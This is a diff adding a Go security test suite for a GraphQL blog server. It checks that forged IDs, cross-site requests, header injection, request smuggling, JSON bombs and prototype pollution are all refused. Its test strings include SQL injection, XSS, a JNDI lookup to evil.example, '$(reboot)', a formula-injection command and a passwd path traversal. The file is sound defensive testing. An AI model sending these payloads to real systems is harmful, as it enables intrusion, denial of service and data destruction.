@@ -1,0 +1,489 @@
+package graph
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"io"
+	"maps"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"byline/internal/secrettest"
+	"byline/store"
+)
+
+// fortress is a blog behind a real server and a real provider. ada and grace wrote what
+// is in it; mallory is signed in, too.
+type fortress struct {
+	*blog
+	t        *testing.T
+	server   *httptest.Server
+	provider *provider
+	mallory  string // a good token
+}
+
+func newFortress(t *testing.T) *fortress {
+	p := newProvider(t)
+	f := &fortress{t: t, provider: p, mallory: p.token(t, map[string]any{"sub": "mallory"})}
+	f.blog = smallBlog(t, Options{Verifier: p.verifier(t), Logger: secrettest.Logger()})
+	f.server = httptest.NewServer(f.blog)
+	t.Cleanup(f.server.Close)
+	a := f.send(attack{token: f.mallory, query: `mutation { createUser(input: {username: "mallory"}) { user { id } } }`})
+	if a.code() != "" {
+		t.Fatal(a.body)
+	}
+	return f
+}
+
+// attack is a request and what must become of it: the code of the error that it is
+// answered with or, where it does not get as far as to GraphQL, the HTTP status. With
+// neither it must be answered as if it were harmless, because it is.
+type attack struct {
+	token     string
+	query     string
+	variables any
+	body      string // instead of query and variables; may be no JSON
+	method    string // POST if empty
+	target    string // /graphql if empty
+	header    map[string]string
+	raw       string // instead of everything: bytes of a connection, in which \n is a line end
+
+	code   string
+	status int
+	data   string // if set, what is answered
+}
+
+// send sends the request, in which <post:moths> and its like stand for global ids.
+func (f *fortress) send(a attack) answer {
+	f.t.Helper()
+	if a.raw != "" {
+		return f.sendRaw(strings.ReplaceAll(a.raw, "\n", "\r\n"))
+	}
+	body := a.body
+	if body == "" && a.query != "" {
+		b, err := json.Marshal(map[string]any{"query": a.query, "variables": a.variables})
+		if err != nil {
+			f.t.Fatal(err)
+		}
+		body = string(b)
+	}
+	method, target := a.method, a.target
+	if method == "" {
+		method = http.MethodPost
+	}
+	if target == "" {
+		target = "/graphql"
+	}
+	r, err := http.NewRequestWithContext(f.t.Context(), method, f.server.URL+f.fill(target), strings.NewReader(f.filled(body)))
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	r.Header.Set("Content-Type", "application/json")
+	r.Header.Set("Accept", mediaResponse)
+	if a.token != "" {
+		r.Header.Set("Authorization", "Bearer "+a.token)
+	}
+	for name, value := range a.header {
+		r.Header.Set(name, value)
+	}
+	response, err := f.server.Client().Do(r)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	return f.read(response)
+}
+
+// filled is fill for JSON, which has other forms of < and >.
+func (f *fortress) filled(body string) string {
+	return f.fill(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">").Replace(body))
+}
+
+func (f *fortress) sendRaw(raw string) answer {
+	f.t.Helper()
+	c, err := net.Dial("tcp", f.server.Listener.Addr().String())
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	defer c.Close()
+	if err := c.SetDeadline(time.Now().Add(time.Minute)); err != nil {
+		f.t.Fatal(err)
+	}
+	if _, err := io.WriteString(c, raw); err != nil {
+		f.t.Fatal(err)
+	}
+	response, err := http.ReadResponse(bufio.NewReader(c), nil)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	return f.read(response)
+}
+
+func (f *fortress) read(response *http.Response) answer {
+	f.t.Helper()
+	defer response.Body.Close()
+	body, err := io.ReadAll(response.Body)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	secrettest.Look(body)
+	a := answer{status: response.StatusCode, header: response.Header, body: string(body)}
+	if strings.Contains(response.Header.Get("Content-Type"), "json") {
+		if err := json.Unmarshal(body, &a); err != nil {
+			f.t.Fatalf("answer %q: %v", body, err)
+		}
+	}
+	return a
+}
+
+// everything is all that anybody can read of what ada and grace wrote.
+func (f *fortress) everything() string {
+	f.t.Helper()
+	const of = `id username posts { edges { node { id title content version updatedAt commentCount likeCount author { id username }
+		comments { edges { node { id content updatedAt author { username } } } } likes { edges { node { id user { username } } } } } } }`
+	a := f.send(attack{query: f.fill(`{ ada: user(id: "<user:ada>") { ` + of + ` } grace: user(id: "<user:grace>") { ` + of + ` } }`)})
+	if a.code() != "" {
+		f.t.Fatal(a.body)
+	}
+	return string(a.Data)
+}
+
+// run tries all attacks, and finds that none has changed anything.
+func (f *fortress) run(t *testing.T, attacks map[string]attack) {
+	before := f.everything()
+	for name, attack := range attacks {
+		t.Run(name, func(t *testing.T) {
+			inner := *f
+			inner.t = t
+			a := inner.send(attack)
+			t.Logf("status %d, code %q", a.status, a.code())
+			switch {
+			case a.code() == "INTERNAL" || a.status == http.StatusInternalServerError:
+				t.Errorf("status %d: %.500s", a.status, a.body)
+			case attack.status != 0 && a.status != attack.status:
+				t.Errorf("status %d, want %d: %.500s", a.status, attack.status, a.body)
+			case attack.status == 0 && a.code() != attack.code:
+				t.Errorf("code %q, want %q: %.500s", a.code(), attack.code, a.body)
+			case a.code() != "" && !nothing(t, a.Data):
+				t.Errorf("refused, and answered: %.500s", a.body)
+			case attack.data != "" && string(a.Data) != attack.data:
+				t.Errorf("data %.500s, want %s", a.Data, attack.data)
+			case attack.code == "UNAUTHENTICATED" && a.status != http.StatusUnauthorized:
+				t.Errorf("status %d", a.status)
+			}
+			for name := range a.header {
+				if name == "X-Injected" || name == "Set-Cookie" || strings.HasPrefix(name, "Access-Control-Allow") {
+					t.Errorf("the answer has the header %s", name)
+				}
+			}
+			if after := inner.everything(); after != before {
+				t.Fatalf("the blog has changed:\n%s\n%s", before, after)
+			}
+		})
+	}
+}
+
+// nothing reports whether data, of an answer, holds no value at all.
+func nothing(t *testing.T, data json.RawMessage) bool {
+	t.Helper()
+	if data == nil {
+		return true
+	}
+	var fields map[string]any
+	if err := json.Unmarshal(data, &fields); err != nil {
+		t.Fatal(err)
+	}
+	for _, value := range fields {
+		if value != nil {
+			return false
+		}
+	}
+	return true
+}
+
+// What somebody who is signed in tries on what belongs to others.
+func TestAttacksOnWhatBelongsToOthers(t *testing.T) {
+	f := newFortress(t)
+	m := func(query string, variables map[string]any, code string) attack {
+		return attack{token: f.mallory, query: query, variables: variables, code: code}
+	}
+	id := func(id string) map[string]any { return map[string]any{"id": id} }
+	const (
+		updatePost    = `mutation($id: ID!) { updatePost(input: {id: $id, title: "mine", content: "mine"}) { post { id } } }`
+		deletePost    = `mutation($id: ID!) { deletePost(input: {id: $id}) { deletedPostId } }`
+		updateComment = `mutation($id: ID!) { updateComment(input: {id: $id, content: "mine"}) { comment { id } } }`
+		deleteComment = `mutation($id: ID!) { deleteComment(input: {id: $id}) { deletedCommentId } }`
+		likePost      = `mutation($id: ID!) { likePost(input: {postId: $id}) { post { id } } }`
+		node          = `query($id: ID!) { node(id: $id) { id } }`
+	)
+	moths := f.postID(t, "moths")
+	attacks := map[string]attack{
+		"another's post: update":                 m(updatePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's post: delete":                 m(deletePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's comment: update":              m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's comment: delete":              m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's like: unlike":                 m(`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
+		"another's profile: take the name":       m(`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's profile: name a user":         m(`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil, "GRAPHQL_VALIDATION_FAILED"),
+		"another's profile: in a variable":       m(`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`, map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
+		"another's profile: create it again":     m(`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's name: write under it":         m(`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`, map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}}, "BAD_USER_INPUT"),
+		"a moderator by a variable":              m(`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`, map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
+		"many mutations, one of them on another": m(`mutation { a: updateUser(input: {username: "mallory"}) { user { id } } b: deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, nil, "FORBIDDEN"),
+		"mutation hidden in a fragment":          {query: `mutation { ...F } fragment F on Mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, code: "UNAUTHENTICATED"},
+
+		"forged id: of nothing":                m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
+		"forged id: a post that is not there":  m(deletePost, id(postGlobalID("absent")), "NOT_FOUND"),
+		"forged id: a comment in another post": m(deleteComment, id(commentGlobalID(&store.Comment{PostID: f.postID(t, "notes"), ID: moths})), "NOT_FOUND"),
+		"forged id: a post as its own comment": m(deleteComment, id(commentGlobalID(&store.Comment{PostID: moths, ID: moths})), "NOT_FOUND"),
+		"forged id: a like as a comment":       m(deleteComment, id(commentGlobalID(&store.Comment{PostID: moths, ID: "like-" + subjectID("ada")})), "NOT_FOUND"),
+		"forged id: a comment as a post":       m(updatePost, id(postGlobalID(subjectID("ada"))), "NOT_FOUND"),
+		"forged id: the reservation of a name": m(node, id(userGlobalID("username:ada")), "BAD_USER_INPUT"),
+		"forged id: a path":                    m(node, id(postGlobalID("../users/"+subjectID("ada"))), "BAD_USER_INPUT"),
+		"forged id: SQL":                       m(node, id(postGlobalID("x' OR '1'='1")), "BAD_USER_INPUT"),
+		"forged id: NUL":                       m(node, id(postGlobalID("a\x00b")), "BAD_USER_INPUT"),
+		"forged id: a megabyte":                m(node, id(strings.Repeat("A", 1<<19)), "BAD_USER_INPUT"),
+		"foreign id: a user's as a post's":     m(deletePost, id("<user:ada>"), "BAD_USER_INPUT"),
+		"foreign id: a comment's as a post's":  m(likePost, id("<comment:Poor thing.>"), "BAD_USER_INPUT"),
+		"foreign id: a post's as a comment's":  m(updateComment, id("<post:moths>"), "BAD_USER_INPUT"),
+		"foreign id: a like's as a comment's":  m(deleteComment, id("<like:ada>"), "BAD_USER_INPUT"),
+		"foreign id: of another server":        m(deletePost, id("UG9zdDoxMjM="), "BAD_USER_INPUT"),
+	}
+	cursors := map[string]string{
+		"of a user's posts": cursorOf(t, f.blog, `{ user(id: "<user:ada>") { posts { edges { cursor } } } }`),
+		"of comments":       cursorOf(t, f.blog, `{ post(id: "<post:moths>") { comments { edges { cursor } } } }`),
+		"of likes":          cursorOf(t, f.blog, `{ post(id: "<post:moths>") { likes { edges { cursor } } } }`),
+		"of nothing":        "bm9uc2Vuc2U",
+		"of SQL":            "' OR 1=1 --",
+	}
+	for name, cursor := range cursors {
+		attacks["a cursor "+name+" in the feed"] = m(`query($c: String) { feed(after: $c) { edges { cursor } } }`, map[string]any{"c": cursor}, "BAD_USER_INPUT")
+		attacks["a cursor "+name+" in another post's likes"] = m(`query($c: String) { post(id: "<post:engines>") { likes(after: $c) { edges { cursor } } } }`, map[string]any{"c": cursor}, "BAD_USER_INPUT")
+	}
+	f.run(t, attacks)
+}
+
+// What is wrong with the request itself, whoever sends it.
+func TestAttacksByRequests(t *testing.T) {
+	f := newFortress(t)
+	const mutation = `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\"}) { post { id } } }"}`
+	const nodes = `{"query":"query($ids: [ID!]!) { nodes(ids: $ids) { id } }","variables":`
+	plain := `{"query":"{ __typename }"}`
+	from := func(origin, site, contentType string) attack {
+		return attack{token: f.mallory, body: mutation, header: map[string]string{"Origin": origin, "Sec-Fetch-Site": site, "Content-Type": contentType}}
+	}
+	crossSite := func(a attack, code string) attack { a.code = code; return a }
+	raw := func(header string) string {
+		return fmt.Sprintf("POST /graphql HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: %d\nConnection: close\n%s\n\n%s\n", len(plain), header, plain)
+	}
+	deep := func(n int, open, end string) string { return strings.Repeat(open, n) + strings.Repeat(end, n) }
+	f.run(t, map[string]attack{
+		"cross-site POST":                        crossSite(from("https://evil.example", "cross-site", "application/json"), "FORBIDDEN"),
+		"cross-site POST, by Origin alone":       crossSite(from("https://evil.example", "", "application/json"), "FORBIDDEN"),
+		"cross-site POST of no origin":           crossSite(from("null", "cross-site", "application/json"), "FORBIDDEN"),
+		"cross-site POST of a sibling":           crossSite(from("https://other.localhost", "same-site", "application/json"), "FORBIDDEN"),
+		"a form's POST as text":                  crossSite(from(f.server.URL, "same-origin", "text/plain"), "BAD_USER_INPUT"),
+		"a form's POST":                          crossSite(from(f.server.URL, "same-origin", "application/x-www-form-urlencoded"), "BAD_USER_INPUT"),
+		"a form's POST with a file":              crossSite(from(f.server.URL, "same-origin", "multipart/form-data; boundary=x"), "BAD_USER_INPUT"),
+		"a mutation by GET":                      {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`), code: "BAD_USER_INPUT"},
+		"a mutation by a link to an image":       {method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"Sec-Fetch-Site": "cross-site", "Accept": "image/*"}, code: "BAD_USER_INPUT"},
+		"another method by a header":             {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"X-HTTP-Method-Override": "POST"}, code: "BAD_USER_INPUT"},
+		"cross-site WebSocket":                   {method: "GET", header: upgrade("https://evil.example"), status: http.StatusForbidden},
+		"cross-site WebSocket of no origin":      {method: "GET", header: upgrade("null"), status: http.StatusForbidden},
+		"cross-site WebSocket of a like name":    {method: "GET", header: upgrade(f.server.URL + ".evil.example"), status: http.StatusForbidden},
+		"CORS preflight":                         {method: "OPTIONS", header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}, status: http.StatusMethodNotAllowed},
+		"header injection by the request id":     {raw: raw("X-Request-Id: a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a line end":         {raw: raw("X-Request-Id: a\nX-Injected: 1"), status: 200},
+		"header injection by a bare CR":          {raw: raw("X-Request-Id: a\rX-Injected: 1"), status: 400},
+		"header injection by NUL":                {raw: raw("X-Request-Id: a\x00b"), status: 400},
+		"header injection by folding":            {raw: raw("X-Request-Id: a\n X-Injected: 1"), status: 200},
+		"header injection by the token":          {raw: raw("Authorization: Bearer a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a name":             {raw: raw("X-Request Id: a"), status: 400},
+		"two lengths":                            {raw: raw("Content-Length: 5"), status: 400},
+		"two ends of the body":                   {raw: raw("Transfer-Encoding: chunked"), code: "BAD_USER_INPUT"},
+		"an end of the body that nobody knows":   {raw: raw("Transfer-Encoding: chunked, identity"), status: http.StatusNotImplemented},
+		"two hosts":                              {raw: raw("Host: evil.example"), status: 400},
+		"a huge header":                          {raw: raw("X-A: " + strings.Repeat("a", 1<<21)), status: 431},
+		"JSON bomb: arrays":                      {body: nodes + deep(100_000, "[", "]") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: objects":                     {body: nodes + `{"ids":` + deep(50_000, `{"a":`, "}") + "}}", code: "BAD_USER_INPUT"},
+		"JSON bomb: lists as an id":              {body: nodes + `{"ids":` + deep(5_000, "[", "]") + "}}", code: "BAD_USER_INPUT"},
+		"JSON bomb: in extensions":               {body: `{"query":"{ __typename }","extensions":` + deep(100_000, `{"a":[`, "]}") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: never closed":                {body: strings.Repeat("[", 500_000), code: "BAD_USER_INPUT"},
+		"JSON bomb: a huge number":               {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":1e999999999}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: a number of 500,000 digits":  {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":` + strings.Repeat("9", 500_000) + `}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: 100,000 names":               {body: `{"query":"{ __typename }","variables":{"a":1` + strings.Repeat(`,"a":1`, 100_000) + `}}`, data: `{"__typename":"Query"}`},
+		"JSON bomb: 10 MB":                       {body: `{"query":"` + strings.Repeat(" ", 10<<20) + `"}`, code: "BAD_USER_INPUT"},
+		"JSON: two values":                       {body: plain + plain, code: "BAD_USER_INPUT"},
+		"JSON: a list of operations":             {body: "[" + plain + "," + plain + "]", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a variable":            {token: f.mallory, body: "{\"query\":\"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }\",\"variables\":{\"t\":\"a\xffb\"}}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the document":          {token: f.mallory, body: "{\"query\":\"mutation { createPost(input: {title: \\\"a\xc3\\\", content: \\\"c\\\"}) { post { id } } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a name":                {body: "{\"query\":\"{ __typename }\",\"\xff\":1}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8: overlong":                {body: "{\"query\":\"{ userByUsername(username: \\\"\xc0\xaf\\\") { id } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL":               {method: "GET", target: `/graphql?query={userByUsername(username:"%ff"){id}}`, code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL's variables":   {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"%ff"}`, code: "BAD_USER_INPUT"},
+		"another character set":                  {body: plain, header: map[string]string{"Content-Type": "application/json; charset=utf-7"}, code: "BAD_USER_INPUT"},
+		"UTF-16":                                 {body: "\xff\xfe{\x00}\x00", code: "BAD_USER_INPUT"},
+		"NUL in the body":                        {body: "{\"query\":\"{ __typename\x00 }\"}", code: "BAD_USER_INPUT"},
+		"NUL in the document":                    {body: `{"query":"{ __typename\u0000 }"}`, code: "GRAPHQL_PARSE_FAILED"},
+		"NUL after the body":                     {body: plain + "\x00", code: "BAD_USER_INPUT"},
+		"NUL in the URL":                         {method: "GET", target: "/graphql?query={__typename}%00", code: "GRAPHQL_PARSE_FAILED"},
+		"NUL in the path":                        {method: "GET", target: "/graphql%00", status: 404},
+		"up from the path":                       {method: "GET", target: "/graphql/..%2f..%2fetc%2fpasswd", status: 404},
+		"prototype-like: a key of the body":      {body: `{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a variable":             {body: `{"query":"{ __typename }","variables":{"__proto__":{"moderator":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: in an input":            {token: f.mallory, body: `{"query":"mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }","variables":{"i":{"title":"t","content":"c","__proto__":{"authorId":"x"}}}}`, code: "BAD_USER_INPUT"},
+		"prototype-like: a type of input":        {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\", constructor: 1}) { post { id } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an extension":           {body: `{"query":"{ __typename }","extensions":{"__proto__":{"persistedQuery":1},"persistedQuery":null}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a persisted operation":  {body: `{"documentId":"__proto__"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
+		"prototype-like: an operation":           {body: `{"query":"query a { __typename }","operationName":"__proto__"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: a field":                {body: `{"query":"{ __proto__ }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an id":                  {body: `{"query":"{ node(id: \"__proto__\") { id } }"}`, code: "BAD_USER_INPUT"},
+		"prototype-like: a user":                 {body: `{"query":"{ userByUsername(username: \"__proto__\") { id } }"}`, data: `{"userByUsername":null}`},
+		"a token in the URL":                     {method: "POST", target: "/graphql?access_token=" + f.mallory, body: mutation, code: "UNAUTHENTICATED"},
+		"a token in a cookie":                    {body: mutation, header: map[string]string{"Cookie": "Authorization=Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"a token for a proxy":                    {body: mutation, header: map[string]string{"Proxy-Authorization": "Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"somebody by the headers of a proxy":     {body: mutation, header: map[string]string{"X-Forwarded-User": "ada", "X-Remote-User": "ada"}, code: "UNAUTHENTICATED"},
+		"the schema":                             {body: `{"query":"{ __schema { types { name } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"a file of the server by the playground": {method: "GET", target: "/", status: 404},
+	})
+}
+
+func upgrade(origin string) map[string]string {
+	return map[string]string{"Origin": origin, "Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
+		"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "graphql-transport-ws"}
+}
+
+// Names that look like another's are refused, to take and to have.
+func TestLookAlikeUsernames(t *testing.T) {
+	f := newFortress(t)
+	attacks := map[string]attack{}
+	for name, lookAlike := range map[string]string{
+		"Cyrillic":               "аda",
+		"Greek":                  "grαce",
+		"fullwidth":              "ａｄａ",
+		"mathematical":           "𝐚𝐝𝐚",
+		"a combining accent":     "ada\u0301",
+		"composed":               "gráce",
+		"a zero-width space":     "a\u200bda",
+		"a zero-width joiner":    "ad\u200da",
+		"a soft hyphen":          "a\u00adda",
+		"from right to left":     "\u202eada",
+		"a byte order mark":      "\ufeffada",
+		"the sign of Kelvin":     "\u212aelvin",
+		"the long s":             "gra\u017f",
+		"the dotless i":          "\u0131ada",
+		"a space at the end":     "ada ",
+		"a no-break space":       "ada\u00a0",
+		"a hyphen that is none":  "ada\u2010",
+		"a line end":             "ada\n",
+		"NUL":                    "ada\x00",
+		"a full stop":            "ada.",
+		"a slash":                "../ada",
+		"the colon of the store": "username:ada",
+	} {
+		variables := map[string]any{"u": lookAlike}
+		attacks[name+": rename"] = attack{token: f.mallory, query: `mutation($u: String!) { updateUser(input: {username: $u}) { user { id } } }`, variables: variables, code: "BAD_USER_INPUT"}
+		attacks[name+": create"] = attack{token: f.provider.token(t, map[string]any{"sub": name}), query: `mutation($u: String!) { createUser(input: {username: $u}) { user { id } } }`, variables: variables, code: "BAD_USER_INPUT"}
+		attacks[name+": look up"] = attack{query: `query($u: String!) { userByUsername(username: $u) { id } }`, variables: variables, data: `{"userByUsername":null}`}
+	}
+	attacks["another case"] = attack{token: f.mallory, query: `mutation { updateUser(input: {username: "Ada"}) { user { id } } }`, code: "CONFLICT"}
+	f.run(t, attacks)
+}
+
+// hostileTexts mean something elsewhere. Here they are text.
+var hostileTexts = []string{
+	`'; DROP TABLE posts; --`, `' OR '1'='1`, `" OR ""="`, `x' OR c.type = 'user' --`, `@id`, `{{ .Key }}`, `${jndi:ldap://evil.example/a}`,
+	`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `__proto__`, `constructor`, `{"$ne": null}`, `[{"op":"replace"}]`,
+	`\u0000`, `\\`, `%00`, `%s%s%n`, `null`, `undefined`, `true`, `0`, `-1`, `1e999`, `NaN`, `=cmd|' /C calc'!A0`, `../../etc/passwd`, `$(reboot)`, "`reboot`",
+	"a\u2028b\u2029c", "\u202etxet", "👩‍👩‍👧‍👦", "Z̸̛a̵l̶g̷o̸", "\ufeffx", "from c where c.type = 'post'",
+}
+
+// Texts come back as they were sent, from wherever they can be read.
+func TestHostileTextsAreText(t *testing.T) {
+	f := newFortress(t)
+	ids := map[string]string{}
+	do := func(query string, variables map[string]any) answer {
+		t.Helper()
+		a := f.send(attack{token: f.mallory, query: query, variables: variables})
+		if a.code() != "" {
+			t.Fatalf("%v: %s", variables, a.body)
+		}
+		return a
+	}
+	for i, text := range hostileTexts {
+		var created struct {
+			CreatePost struct{ Post struct{ ID string } }
+		}
+		a := do(`mutation($t: String!, $k: String!) { createPost(input: {title: $t, content: $t, idempotencyKey: $k}) { post { id } } }`,
+			map[string]any{"t": strings.ReplaceAll(text, "\n", " "), "k": text})
+		if err := json.Unmarshal(a.Data, &created); err != nil {
+			t.Fatal(err)
+		}
+		id := created.CreatePost.Post.ID
+		if other := ids[id]; other != "" {
+			t.Fatalf("%q and %q are one post", text, other)
+		}
+		ids[id] = text
+		do(`mutation($id: ID!, $t: String!) { createComment(input: {postId: $id, content: $t, idempotencyKey: $t}) { comment { id } } }`, map[string]any{"id": id, "t": text})
+		if i%2 == 0 { // edits are a path of their own
+			do(`mutation($id: ID!, $t: String!) { updatePost(input: {id: $id, title: $t, content: $t}) { post { id } } }`, map[string]any{"id": id, "t": text})
+		}
+	}
+	f.settle(t)
+	type post struct {
+		ID, Title, Content, Excerpt string
+		Comments                    struct {
+			Edges []struct{ Node struct{ Content string } }
+		}
+	}
+	type list struct{ Edges []struct{ Node post } }
+	check := func(where string, p post, comments bool) {
+		t.Helper()
+		text := ids[p.ID]
+		if p.Title != text || p.Content != text || p.Excerpt != text || comments && p.Comments.Edges[0].Node.Content != text {
+			t.Errorf("%s: %+v, want %q", where, p, text)
+		}
+	}
+	for id := range maps.Keys(ids) {
+		var got struct{ Post post }
+		if err := json.Unmarshal(do(`query($id: ID!) { post(id: $id) { id title content excerpt comments { edges { node { content } } } } }`, map[string]any{"id": id}).Data, &got); err != nil {
+			t.Fatal(err)
+		}
+		check("post", got.Post, true)
+	}
+	var got struct {
+		Feed   list
+		Viewer struct{ Posts list }
+	}
+	if err := json.Unmarshal(do(`{ feed(first: 100) { edges { node { id title content excerpt } } } viewer { posts(first: 100) { edges { node { id title content excerpt } } } } }`, nil).Data, &got); err != nil {
+		t.Fatal(err)
+	}
+	for where, l := range map[string]list{"feed": got.Feed, "posts of the user": got.Viewer.Posts} {
+		n := 0
+		for _, e := range l.Edges {
+			if _, mine := ids[e.Node.ID]; mine {
+				check(where, e.Node, false)
+				n++
+			}
+		}
+		if n != len(hostileTexts) {
+			t.Errorf("%s has %d of %d", where, n, len(hostileTexts))
+		}
+	}
+	// What is no free text takes none of them.
+	for _, text := range hostileTexts {
+		for field, a := range map[string]attack{
+			"id":    {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`, variables: map[string]any{"t": text}},
+			"after": {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
+		} {
+			if got := f.send(a); got.code() != "BAD_USER_INPUT" {
+				t.Errorf("%s %q: %s", field, text, got.body)
+			}
+		}
+	}
+}
